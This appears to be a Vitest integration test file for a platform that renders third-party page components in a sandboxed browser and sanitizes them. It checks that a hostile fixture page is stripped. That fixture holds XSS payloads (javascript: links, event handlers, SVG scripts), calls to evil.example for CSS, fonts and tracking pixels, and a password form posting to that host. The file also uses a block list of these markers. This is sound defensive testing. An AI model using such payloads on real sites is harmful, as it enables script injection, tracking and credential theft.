// @module-tag long
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from '#common/layout/document.ts';
import { probeSandbox } from '#server/developer/delivery/builds/sandbox/probe-sandbox.ts';
import { allowEverything, commitTo, makeProject } from '#server/developer/testing/make-project.ts';
import { componentSnapshots } from '#server/platform/db/schema/project-widgets.ts';
import { buildSite } from '#server/site.ts';
import { meta, node, pageNode } from '#server/testing/layouts.ts';
import { createWorld, type World } from '#server/testing/world.ts';
import { findBrowser } from '../../../../../scripts/find-browser.mjs';

const sandbox = await probeSandbox();
let world: World;
let site: Awaited<ReturnType<typeof buildSite>>;
beforeAll(async () => {
  const { executablePath } = await findBrowser();
  world = await createWorld({ env: { CHROMIUM_PATH: executablePath } });
  await allowEverything(world);
  site = await buildSite(world.parts);
});
afterAll(async () => {
  await site.close();
  await world.close();
});

function component(name: string) {
  return {
    name,
    title: name,
    file: 'card.js',
    page: `/${name}/`,
    properties: {
      type: 'object',
      properties: { title: { type: 'string', default: 'Basic' }, link: { type: 'string', format: 'uri' } },
    },
  };
}

const MANIFEST = JSON.stringify({ version: 1, components: ['card', 'hostile', 'endless', 'huge'].map(component) });
const SCRIPT = `
const { title, link } = JSON.parse(new URLSearchParams(location.search).get('properties') ?? '{}');
document.body.innerHTML = '<article class="card"><h2></h2><a>More</a><a href="directions.html">Directions</a><img src="/dot.svg" alt="Dot"><slot name="content"></slot></article>';
document.querySelector('h2').textContent = title;
document.querySelector('a').href = link ?? '/menu';
`;
const HOSTILE = `<!doctype html><style>
  @import "//evil.example/a.css"; @font-face { font-family: x; src: url(//evil.example/f) }
  :root { --brand: red } body { color: var(--brand); position: fixed; inset: 0 }
  :host { position: fixed !important } .a { background: url(//evil.example/track) }
  .b::after { content: "</style><script>alert(1)</script>" }
</style>
<script>document.body.setAttribute('onload', 'alert(1)'); Object.prototype.toJSON = () => 'stolen'</script>
<p onclick="alert(1)" style="color: green; background: url(//evil.example/x)" data-x="1" is="evil-p">Kept</p>
<a href="javascript:alert(1)">Runs</a><a href="mailto:a@b.example">Writes</a><a href=" java\tscript:alert(1)">Hides</a>
<img src="https://evil.example/pixel.png"><img src="data:image/png;base64,AA==">
<iframe src="/card/"></iframe><object data="x"></object><form action="//evil.example"><input name="password"><button>Send</button></form>
<svg><a href="javascript:alert(1)"><text>Drawn</text></a><script>alert(1)</script><foreignObject><p>Inside</p></foreignObject></svg>
<template><p>Template</p></template>`;
const FILES = {
  'pagewright.json': MANIFEST,
  'index.html': '<h1>Menu</h1>',
  'card.js': SCRIPT,
  'dot.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
  'card.css': 'h2 { color: rebeccapurple } .card > a { background: url("dot.svg") }',
  'card/index.html':
    '<!doctype html><link rel="stylesheet" href="/card.css"><body></body><script src="/card.js"></script>',
  'hostile/index.html': HOSTILE,
  'endless/index.html': '<!doctype html><p>Never</p><script>for (;;);</script>',
  'huge/index.html':
    '<!doctype html><body></body><script>document.body.append(...Array.from({ length: 9000 }, () => document.createElement("p")))</script>',
};

function block(project: string, name: string, properties: object, nodes: string[] = []) {
  return {
    ...node('ProjectWidget', ROOT, { project, component: name, properties } as never, nodes),
  };
}

let pages = 0;

/** A live page of components at an address. */
async function show(nodes: Record<string, unknown>, top = Object.keys(nodes)) {
  const pageKey = `page-${(pages += 1)}`;
  const root = { [ROOT]: pageNode(top), ...nodes };
  const body = { type: 'layout', pageKey, root, meta, isNewRecord: true };
  expect((await world.call('POST v1/dashboard/setConfig', { as: world.a2, body })).status).toBe(200);
  const url = `/${pageKey}`;
  const route = {
    url_string: url,
    sample_url_string: url,
    page_template: pageKey,
    is_active: true,
    page_type_advanced: false,
  };
  expect((await world.call('POST v1/pageRoutes/saveRoute', { as: world.a1, body: route })).status).toBe(200);
  await world.call('POST v1/dashboard/publish', { as: world.a2, body: { pageKey } });
  return url;
}

async function visit(url: string) {
  const reply = await site.inject({ url, headers: { host: `${world.a.siteId}.localhost` } });
  return { html: reply.body, policy: String(reply.headers['content-security-policy']), status: reply.statusCode };
}

async function makeLive(name: string) {
  const project = await makeProject(world, name, FILES);
  await world.call('POST project/deploy', { as: world.a4, body: { projectId: project.id } });
  await world.runJobs();
  await world.call('POST v1/projectWidgets/switch', { as: world.a1, body: { projectId: project.id, on: true } });
  return project;
}

describe.runIf(sandbox.ready)('what a component drew', () => {
  it('is shown on live pages, without its scripts, and follows what goes live', async () => {
    const project = await makeLive('Cards');
    const url = await show(
      {
        c: block(project.id, 'card', { title: '<b>Big</b>', link: 'https://shop.example/' }, ['s']),
        s: node('ProjectSlot', 'c', { name: 'content' }, ['t']),
        t: node('Text', 's', { text: 'From the page' }),
      },
      ['c'],
    );
    // Drawn before the page went live: its first visitor sees all of it.
    const { html, policy } = await visit(url);
    expect(html).toContain('From the page');
    expect(html).toContain('<template shadowrootmode="open">');
    expect(html).toContain('&lt;b&gt;Big&lt;/b&gt;');
    expect(html).toMatch(/<a href="https:\/\/shop\.example\/">More<\/a>/);
    expect(html).toMatch(/<a href="http:\/\/cards[^"/]*\/card\/directions\.html">Directions<\/a>/);
    expect(html).toContain('<slot name="content"></slot>');
    expect(html).toMatch(/class="w-project-slot" slot="content"/);
    expect(html).not.toContain('<script');
    expect(policy.match(/'sha256-/g)).toHaveLength(2);
    const picture = /<img[^>]* src="(\/media\/component\/[^"]+)"/.exec(html)?.[1] ?? '';
    expect(html).toContain(`url("${picture}")`);
    const shown = await site.inject({ url: picture, headers: { host: `${world.a.siteId}.localhost` } });
    expect([shown.statusCode, shown.headers['content-type']]).toEqual([200, 'image/svg+xml']);

    await commitTo(project.repository, 'main', { 'card.css': 'h2 { color: teal }' });
    await world.call('POST project/deploy', { as: world.a4, body: { projectId: project.id } });
    await world.runJobs();
    expect((await visit(url)).html).toContain('teal');
    // Switched off, pages do not render it, but still render the content of its slots.
    await world.call('POST v1/projectWidgets/switch', { as: world.a1, body: { projectId: project.id, on: false } });
    const off = (await visit(url)).html;
    expect([off.includes('teal'), off.includes('From the page')]).toEqual([false, true]);
  }, 180_000);

  it(
    'holds nothing of what a hostile page has, and one that never rests or is huge is told (docs/trust.md 109)',
    { timeout: 180_000, tags: ['crash'] },
    async () => {
      const project = await makeLive('Hostile');
      const names = ['hostile', 'endless', 'huge', 'card'];
      const url = await show(Object.fromEntries(names.map((name) => [name, block(project.id, name, {})])));
      await world.runJobs();
      const { html } = await visit(url);
      expect(html).toContain('Kept</p>');
      expect(html).toContain('Drawn');
      expect(html).toContain('<a href="mailto:a@b.example">');
      expect(html).toContain('.pw-html { --brand: red');
      for (const bad of [
        'evil',
        'javascript',
        'script:',
        'onclick',
        'onload',
        'alert(1)</',
        '<iframe',
        '<form',
        '<input',
      ])
        expect([bad, html.includes(bad)]).toEqual([bad, false]);
      for (const bad of ['<script', ':host { position', 'data:image', 'Template', 'stolen', 'data-x', 'http-equiv'])
        expect([bad, html.includes(bad)]).toEqual([bad, false]);
      // The one after it is drawn all the same.
      expect(html).toContain('Basic</h2>');
      const { projects } = (await world.call('GET v1/projectWidgets/choices', { as: world.a1 })).body;
      expect(projects.find(({ id }) => id === project.id)).toMatchObject({ trouble: 'failed' });
    },
  );

  it('is not tried again at once when it failed, but later', { tags: ['details'] }, async () => {
    const project = await makeLive('Failing');
    const own = and(eq(componentSnapshots.projectId, project.id), eq(componentSnapshots.component, 'huge'));
    const triedAt = async () => {
      const [row] = await world.parts.db.select().from(componentSnapshots).where(own);
      return [row?.reason, row?.updatedOn.getTime()];
    };
    await show({ h: block(project.id, 'huge', {}) });
    await world.runJobs();
    const first = await triedAt();
    expect(first[0]).toBe('failed');
    await show({ c: block(project.id, 'card', {}) });
    await world.runJobs();
    expect(await triedAt()).toEqual(first);

    const before = new Date(Date.now() - 3_600_000);
    await world.parts.db.update(componentSnapshots).set({ updatedOn: before }).where(own);
    await show({ t: node('Text', ROOT, { text: 'Another page' }) });
    await world.runJobs();
    expect((await triedAt())[1]).toBeGreaterThan(before.getTime());
  });
});

it('says what the server lacks, and breaks no page', { tags: ['details'] }, async () => {
  const bare = await createWorld();
  const [own, ownSite] = [world, site];
  [world, site] = [bare, await buildSite(bare.parts)];
  try {
    await allowEverything(bare);
    const project = await makeLive('Bare');
    const url = await show({ c: block(project.id, 'card', {}), t: node('Text', ROOT, { text: 'Still there' }) });
    await bare.runJobs();
    const { status, html } = await visit(url);
    expect([status, html.includes('Still there'), html.includes('<template')]).toEqual([200, true, false]);
    const { projects } = (await bare.call('GET v1/projectWidgets/choices', { as: bare.a1 })).body;
    expect(projects).toMatchObject([{ trouble: 'no_browser' }]);
  } finally {
    await site.close();
    await bare.close();
    [world, site] = [own, ownSite];
  }
});
